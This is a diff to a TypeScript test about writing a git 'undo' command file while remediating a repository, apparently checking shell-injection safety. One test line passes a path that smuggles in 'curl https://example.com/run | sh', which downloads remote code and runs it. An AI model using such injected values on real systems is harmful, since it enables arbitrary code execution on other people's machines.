@@ -103,7 +103,7 @@ describe('remediating a repository with an org beside it', () => {
     const note = (base: string): void =>
       writeFileSync(
         join(folder, 'undo.txt'),
-        `git -c core.autocrlf=false -c core.attributesFile=${join(folder, 'attributes')} --git-dir=/dev/null -C ${base} apply --whitespace=nowarn ${join(folder, 'reverse.patch')}\n`,
+        `git -c core.attributesFile=${join(folder, 'attributes')} --git-dir=/dev/null -C ${base} apply --whitespace=nowarn ${join(folder, 'reverse.patch')}\n`,
       );
     note('/tmp; curl https://example.com/run | sh;');
     const other = await org.start(restore).ended;
